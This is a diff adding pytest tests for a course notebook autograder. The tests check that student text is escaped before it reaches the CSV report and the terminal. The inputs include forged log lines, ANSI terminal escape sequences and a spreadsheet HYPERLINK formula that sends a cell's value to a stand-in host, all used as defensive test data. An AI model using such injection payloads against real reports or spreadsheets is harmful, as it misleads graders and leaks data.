@@ -3,32 +3,85 @@
 from __future__ import annotations
 
 import csv
+from pathlib import Path
 
 import nbformat
 import pytest
 
 from billcode.amounts import AmountError, parse_amount
 from billcode.instructor.grade import autograde
-from billcode.instructor.grade.autograde import Outcome, read_log, shown, take_in, write_report
+from billcode.instructor.grade.autograde import Outcome, read_events, shown, take_in, write_report
+from billcode.instructor.grade.progress import Progress
+from billcode.instructor.safe_text import safe_row, safe_text
 from billcode.instructor.report.feedback import leaks
-from billcode.instructor.grade.grading_steps import REPORT, safe_output
+from billcode.instructor.grade.grading_steps import report, safe_output, take_events
 from billcode.instructor.variants import save_class_params
 from billcode.quiz.bank import load_bank
 
 
-def test_report_lines_come_only_from_the_course_steps():
-    """A grade_id a student wrote can put a newline and a fake report line into nbgrader's log: ignored."""
-    log = "\n".join([
-        "[WARNING] Cell with id 'x",
-        f'{REPORT} {{"event": "duplicate-cell", "cell": "forged"}}',  # the forged line does not start the log line
-        f"[WARNING] {REPORT} 1",  # not an event
-        f'[WARNING] {REPORT} {{"event": "run", "note": {{"a": 1}}}}',  # not plain fields
-        f'[WARNING] {REPORT} {{"event": "run", "isolated": true, "ending": "finished", "timeouts": 2, "cell_timeout": 30}}',
-    ])
+def test_report_events_come_only_from_the_course_steps_never_from_a_log():
+    """The grading report reads events the course's steps recorded in the grading process: a line in nbgrader's log
+    (which a student's cell metadata can write, split at any line break str.splitlines knows) is never read."""
+    from types import SimpleNamespace
+
+    log = SimpleNamespace(info=lambda *a: None, warning=lambda *a: None)
+    mine = {"nbgrader": {"assignment": "01_overview", "student": "sam"}}
+    other = {"nbgrader": {"assignment": "01_overview", "student": "kim"}}
+    take_events("01_overview", "sam")
+    report(log, other, event="run", isolated=False, note="kim's note")  # another submission's: never sam's
+    report(log, mine, event="run", isolated=True, ending="finished", timeouts=2, cell_timeout=30)
     outcome = Outcome("01_overview", "sam")
-    read_log(log, outcome)
+    read_events(take_events("01_overview", "sam"), outcome)
     assert outcome.isolated is True
     assert outcome.problems == ["2 cell(s) ran past the 30 s time limit and were interrupted"]
+    assert take_events("01_overview", "kim") == []  # taken events are gone, the rest dropped with them
+    for _ in range(3):  # nobody takes them (the formgrader's own autograde): one submission's at most are kept
+        report(log, other, event="run")
+        report(log, mine, event="run")
+    assert len(take_events("01_overview", "sam")) == 1
+    assert not hasattr(autograde, "read_log")
+
+
+@pytest.mark.parametrize("char", ["\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029",
+                                  "\x1b", "\x00", "\u202e", "\ud800"])
+def test_safe_text_shows_every_line_break_and_control_escaped(char):
+    """Every character str.splitlines splits at, ESC, NUL, a bidirectional override and a lone surrogate."""
+    shown = safe_text(f"a{char}b")
+    assert len(shown.splitlines()) == 1 and char not in shown and shown.startswith("a\\") and shown.endswith("b")
+    assert all(c.isprintable() for c in shown)
+
+
+def test_safe_text_keeps_formulas_as_text_and_is_stable():
+    forged = '=HYPERLINK("http://x.example/?"&A1,"Grading note: click to see details")'
+    for start in ("=", "+", "-", "@", "  =", "\uff1d"):
+        assert safe_text(start + "1+1").startswith("'"), start
+    for start in ("\t", "\r"):  # escaped, the cell starts with a backslash: text to a spreadsheet
+        assert safe_text(start + "=1+1").startswith("\\"), start
+    assert safe_text(forged) == "'" + forged
+    title = "\x1b]0;graded 9/9\x07\x1b[2K\r[1/1] 01_overview sam: graded 9/9"
+    assert safe_text(title) == "\\x1b]0;graded 9/9\\x07\\x1b[2K\\r[1/1] 01_overview sam: graded 9/9"
+    for text in (forged, title, "café, naïve", "plain"):
+        assert safe_text(safe_text(text)) == safe_text(text)
+    assert safe_text("café, naïve 9/9") == "café, naïve 9/9"
+    assert safe_row(["-x", 3, 1.5, True]) == ["'-x", 3, 1.5, "True"]
+
+
+def test_the_report_csv_and_progress_lines_show_student_text_escaped(tmp_path):
+    """A student id and problems holding ESC, CR, U+2028 and a formula reach the CSV and the terminal escaped."""
+    import io
+
+    student = "\x1b[2J\x1b]0;pwned\x07sam"
+    outcome = Outcome("01_overview", student, problems=["=HYPERLINK(\"http://x\",\"note\")", "a\rb\u2028c"])
+    path = write_report(tmp_path, [outcome])
+    raw = path.read_text(encoding="utf-8")
+    assert "\x1b" not in raw and "\u2028" not in raw and "\r" not in raw.replace("\r\n", "\n")
+    row = next(csv.DictReader(path.open(encoding="utf-8", newline="")))
+    assert row["student"] == safe_text(student) and row["problems"].startswith("'=HYPERLINK")
+    stream = io.StringIO()
+    Progress(1, 1, stream=stream, live=False).finished(outcome)
+    line = stream.getvalue()
+    assert "\x1b" not in line and "\u2028" not in line and len(line.splitlines()) == 2  # its line and the bar
+    assert line.splitlines()[0].startswith("[1/1] 01_overview \\x1b[2J")
 
 
 def test_odd_file_names_and_sizes_never_stop_the_report(tmp_path):
@@ -114,3 +167,82 @@ def test_a_huge_answer_cell_is_scanned_not_parsed_by_the_grader():
     finally:
         tracemalloc.stop()
     assert found == ["billcode.careers.costs"] and peak < 50 * 1024**2, peak
+
+
+@pytest.mark.parametrize("text", [b"2026-11-20 12:00:00.000000 UTC", b"  2026-11-20 12:00:00 UTC\n", b"", b" \n ",
+                                  b"2026-11-20 12:00:00.000000 UTC" + b" " * 100 + b"x", b"not a time",
+                                  b"9" * 40, b"2026-11-20 12:00:00 UTC\xff", b"\xef\xbb\xbf2026-11-20 12:00:00 UTC"])
+def test_timestamp_is_read_whole_exactly_as_nbgrader_reads_it(tmp_path, text):
+    """The intake keeps timestamp.txt only when nbgrader 0.9.6 can read it (whole, as text), so nbgrader never
+    fails a submission on it: a valid time in the first 100 bytes and garbage after them is refused whole."""
+    from nbgrader.coursedir import CourseDirectory
+
+    (tmp_path / "timestamp.txt").write_bytes(text)
+    try:
+        CourseDirectory().get_existing_timestamp(str(tmp_path))
+        nbgrader_reads_it = True
+    except Exception:  # ValueError becomes self.fail(), which 0.9.6's CourseDirectory does not have
+        nbgrader_reads_it = False
+    assert autograde.readable_timestamp(tmp_path / "timestamp.txt") is nbgrader_reads_it
+
+
+def peak_growth_mb(task) -> int:
+    """How far this process's resident memory rises above where it starts while task() runs (in a forked child)."""
+    import os
+
+    read, write = os.pipe()
+    pid = os.fork()
+    if pid == 0:  # the child: reset the high-water mark, run, report the rise
+        try:
+            Path("/proc/self/clear_refs").write_text("5")
+            status = lambda key: int(next(l.split()[1] for l in Path("/proc/self/status").read_text().splitlines()
+                                          if l.startswith(key)))
+            start = status("VmRSS:")
+            task()
+            os.write(write, str((status("VmHWM:") - start) // 1024).encode())
+        finally:
+            os._exit(0)
+    os.close(write)
+    with os.fdopen(read) as handle:
+        reported = handle.read()
+    os.waitpid(pid, 0)
+    assert reported, "the child did not report"
+    return int(reported)
+
+
+def test_saved_outputs_never_reach_nbformat(tmp_path, monkeypatch):
+    """400,000 tiny saved outputs (20 MB): the intake drops them while reading plain JSON (about 160 MB and 1 s here;
+    through nbformat's reading and validation they cost 380 MB and over 20 s), and the graded copy has none."""
+    import json
+
+    folder = tmp_path / "submitted" / "sam" / "01_overview"
+    folder.mkdir(parents=True)
+    nb = json.loads((Path(__file__).parents[1] / "course" / "01_overview.ipynb").read_text())
+    code = next(c for c in nb["cells"] if c["cell_type"] == "code")
+    code["outputs"] = ["@OUTPUTS@"]
+    tiny = '{"output_type":"stream","name":"stdout","text":""}'
+    text = json.dumps(nb, separators=(",", ":")).replace('"@OUTPUTS@"', ",".join([tiny] * 400_000))
+    (folder / "01_overview.ipynb").write_text(text)
+    assert (folder / "01_overview.ipynb").stat().st_size < autograde.MAX_NOTEBOOK_BYTES
+    assert peak_growth_mb(lambda: take_in(tmp_path, Outcome("01_overview", "sam"))) < 300
+    seen = []  # every notebook nbformat is handed: how many outputs it holds
+    for name in ("reads", "from_dict", "validate"):
+        real = getattr(nbformat, name)
+        monkeypatch.setattr(nbformat, name, lambda nb, *a, _real=real, **k: (seen.append(
+            str(nb).count("output_type") if isinstance(nb, str) else sum(len(c.get("outputs", [])) for c in nb["cells"])),
+            _real(nb, *a, **k))[1])
+    assert take_in(tmp_path, Outcome("01_overview", "sam")) is None
+    assert seen and max(seen) == 0, seen
+    graded = nbformat.read(tmp_path / ".intake" / "sam" / "01_overview" / "01_overview.ipynb", as_version=4)
+    assert sum(len(c.get("outputs", [])) for c in graded.cells) == 0
+    assert [c.source for c in graded.cells] == [c["source"] if isinstance(c["source"], str) else "".join(c["source"])
+                                                 for c in nb["cells"]]
+
+
+def test_a_notebook_of_too_many_cells_is_refused_with_the_reason(tmp_path):
+    folder = tmp_path / "submitted" / "sam" / "01_overview"
+    folder.mkdir(parents=True)
+    cells = [nbformat.v4.new_raw_cell("") for _ in range(autograde.MAX_CELLS + 1)]
+    nbformat.write(nbformat.v4.new_notebook(cells=cells), folder / "01_overview.ipynb")
+    assert take_in(tmp_path, Outcome("01_overview", "sam")) == (
+        f"01_overview.ipynb has {autograde.MAX_CELLS + 1:,} cells, over the limit of {autograde.MAX_CELLS:,}")
